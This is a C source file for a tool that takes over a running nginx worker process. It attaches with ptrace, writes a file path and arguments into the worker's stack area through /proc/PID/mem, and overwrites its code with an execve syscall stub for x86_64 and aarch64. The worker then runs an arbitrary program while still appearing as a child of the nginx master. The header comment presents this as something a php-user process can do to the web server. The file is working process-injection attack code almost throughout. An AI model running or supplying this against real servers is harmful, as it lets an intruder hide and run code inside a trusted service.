/*
 * A process of the workers' user (php, say) takes over a worker of nginx: it traces it and makes it
 * execute FILE. It may, since nginx sets PR_SET_DUMPABLE in its workers. The worker stays a child
 * of the master.
 *
 *	trace PID FILE ARGV0 [ARGUMENT...]
 */
#define _GNU_SOURCE
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define ARGUMENTS_MOST 16
#define BELOW          8192 /* so far below its stack is what is written for it */

#if defined(__x86_64__)

#define REGISTERS struct user_regs_struct
/* syscall; int3 */
static const unsigned char code[8] = {0x0f, 0x05, 0xcc, 0xcc, 0xcc, 0xcc, 0xcc, 0xcc};

static uint64_t stack_of(const REGISTERS *r)
{
	return r->rsp;
}

static uint64_t code_of(const REGISTERS *r)
{
	return r->rip;
}

static void set_execve(REGISTERS *r, uint64_t file, uint64_t argv, uint64_t envp)
{
	r->rax = SYS_execve;
	r->orig_rax = (uint64_t)-1; /* what it was in is not gone on with */
	r->rdi = file;
	r->rsi = argv;
	r->rdx = envp;
}

#elif defined(__aarch64__)

#define REGISTERS struct user_regs_struct
/* svc #0; brk #0 */
static const unsigned char code[8] = {0x01, 0x00, 0x00, 0xd4, 0x00, 0x00, 0x20, 0xd4};

static uint64_t stack_of(const REGISTERS *r)
{
	return r->sp;
}

static uint64_t code_of(const REGISTERS *r)
{
	return r->pc;
}

static void set_execve(REGISTERS *r, uint64_t file, uint64_t argv, uint64_t envp)
{
	r->regs[8] = SYS_execve;
	r->regs[0] = file;
	r->regs[1] = argv;
	r->regs[2] = envp;
}

#else
#error "trace.c does not know this machine"
#endif

static void __attribute__((noreturn)) die(const char *what)
{
	perror(what);
	exit(1);
}

static void put(pid_t pid, uint64_t at, const void *data, size_t size)
{
	char path[64];
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0 || pwrite(fd, data, size, (off_t)at) != (ssize_t)size)
		die("mem");
	(void)close(fd);
}

/* Writes FILE, its arguments and an empty environment; returns where the arguments' array is. */
static uint64_t put_arguments(pid_t pid, uint64_t at, char **argv, uint64_t *ret_file)
{
	uint64_t array[ARGUMENTS_MOST + 1] = {0};
	size_t i;

	for (i = 0; i <= ARGUMENTS_MOST && argv[i]; i++) {
		size_t size = strlen(argv[i]) + 1;

		put(pid, at, argv[i], size);
		if (i == 0)
			*ret_file = at;
		else
			array[i - 1] = at;
		at += size;
	}
	at = (at + 15) & ~(uint64_t)15;
	put(pid, at, array, sizeof(array));
	return at;
}

static void wait_for(pid_t pid, int event)
{
	int status;

	for (;;) {
		if (waitpid(pid, &status, 0) < 0 || !WIFSTOPPED(status))
			die("it did not stop");
		if (status >> 8 == event || (!event && WSTOPSIG(status) == SIGSTOP))
			return;
		if (WSTOPSIG(status) == SIGTRAP || WSTOPSIG(status) == SIGSEGV) {
			(void)fputs("execve failed in it\n", stderr);
			exit(1);
		}
		if (ptrace(PTRACE_CONT, pid, NULL, WSTOPSIG(status)) < 0)
			die("cont");
	}
}

int main(int argc, char **argv)
{
	pid_t pid = argc > 3 ? (pid_t)atoi(argv[1]) : 0;
	REGISTERS r;
	struct iovec iov = {&r, sizeof(r)};
	uint64_t file = 0;
	uint64_t array;

	if (argc < 4 || argc > ARGUMENTS_MOST + 2)
		return 2;
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0)
		die("attach");
	wait_for(pid, 0);
	if (ptrace(PTRACE_SETOPTIONS, pid, NULL, PTRACE_O_TRACEEXEC) < 0 ||
	    ptrace(PTRACE_GETREGSET, pid, NT_PRSTATUS, &iov) < 0)
		die("registers");
	array = put_arguments(pid, (stack_of(&r) - BELOW) & ~(uint64_t)15, argv + 2, &file);
	put(pid, code_of(&r), code, sizeof(code));
	set_execve(&r, file, array, array + sizeof(uint64_t) * ARGUMENTS_MOST);
	if (ptrace(PTRACE_SETREGSET, pid, NT_PRSTATUS, &iov) < 0 ||
	    ptrace(PTRACE_CONT, pid, NULL, NULL) < 0)
		die("set");
	wait_for(pid, SIGTRAP | (PTRACE_EVENT_EXEC << 8));
	return ptrace(PTRACE_DETACH, pid, NULL, NULL) < 0;
}
